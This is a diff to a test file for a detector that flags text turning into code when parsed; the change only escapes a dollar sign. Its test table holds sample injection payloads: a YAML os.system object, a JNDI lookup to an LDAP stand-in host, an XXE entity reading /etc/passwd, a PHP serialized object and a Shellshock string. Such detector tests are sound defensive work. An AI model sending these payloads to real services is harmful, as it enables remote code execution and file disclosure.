@@ -12,7 +12,7 @@ describe("texts that become code where they are read", () => {
 			"template-escape",
 		],
 		["an object in YAML", "!!python/object/apply:os.system ['id']", "yaml-object"],
-		["a lookup", "${jndi:ldap://203.0.113.9/a}", "lookup"],
+		["a lookup", "\u0024{jndi:ldap://203.0.113.9/a}", "lookup"],
 		["an entity", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "entity"],
 		["an object of PHP", 'O:8:"Evil\\App":1:{s:1:"a";}', "serialized-object"],
 		["a function in a header", "() { :; }; /bin/id", "shellshock"],
@@ -22,7 +22,7 @@ describe("texts that become code where they are read", () => {
 		expect(facts.flatMap(({ kind, has }) => (kind === "encoding" ? has["layer"] : []))).toContain(layer);
 	});
 
-	it.each(["{{ user.name }}", "${total} EUR", "<% if paid %>", "!!! important", "f(){ return 1; }"])(
+	it.each(["{{ user.name }}", "\u0024{total} EUR", "<% if paid %>", "!!! important", "f(){ return 1; }"])(
 		"%s is none",
 		(text) => {
 			expect(of("render", { value: text }).dangerous).toBe(false);
